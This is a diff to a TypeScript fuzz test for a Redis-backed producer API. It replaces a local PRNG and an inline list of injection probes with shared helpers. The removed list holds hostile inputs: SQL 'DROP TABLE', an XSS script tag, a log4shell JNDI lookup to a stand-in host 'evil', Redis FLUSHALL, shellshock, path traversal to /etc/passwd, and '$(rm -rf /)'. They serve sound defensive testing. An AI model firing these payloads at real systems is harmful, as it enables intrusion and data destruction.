@@ -1,5 +1,5 @@
 import type { RedisFixture } from '@reelay/testing';
-import { startRedis } from '@reelay/testing';
+import { INJECTION_STRINGS, seededRandom, startRedis } from '@reelay/testing';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { type ProducerApi, startProducerApi } from './producer-harness.ts';
 
@@ -19,33 +19,7 @@ interface Case {
   param?: string;
 }
 
-/** Deterministic PRNG (mulberry32) so a failing case can be reproduced from its name. */
-function rng(seed: number): () => number {
-  let a = seed >>> 0;
-  return () => {
-    a = (a + 0x6d2b79f5) >>> 0;
-    let t = a;
-    t = Math.imul(t ^ (t >>> 15), t | 1);
-    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
-    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
-  };
-}
-
-const INJECTIONS = [
-  "'; DROP TABLE generations; --",
-  '" OR "1"="1',
-  '<script>alert(1)</script>',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe, meant literally
-  '${jndi:ldap://evil/a}',
-  '{{7*7}}',
-  '../../../../etc/passwd',
-  '\u0000\u0001\u0002',
-  'EVAL "return redis.call(\'FLUSHALL\')" 0',
-  '\r\nSet-Cookie: a=b',
-  '%s%s%s%n',
-  '() { :; }; echo pwned',
-  '$(rm -rf /)',
-];
+const INJECTIONS = INJECTION_STRINGS;
 const HUGE = [-1, -4, 0, 1.5, 1e308, -1e308, 2 ** 53 + 1, 9_999_999_999, -2_147_483_649];
 const WRONG_TYPES: unknown[] = [null, true, false, [], ['4'], {}, { a: 1 }, 'abc', 42];
 
@@ -115,8 +89,8 @@ const VALID_OTHERS: Record<string, unknown> = {
 };
 
 function buildCases(): Case[] {
-  const random = rng(20261125);
-  const pick = <T>(values: readonly T[]): T => values[Math.floor(random() * values.length)]!;
+  const random = seededRandom(20261125);
+  const pick = random.pick;
   const cases: Case[] = [];
   const post = (name: string, body: unknown, param?: string, headers?: Record<string, string>) =>
     cases.push({
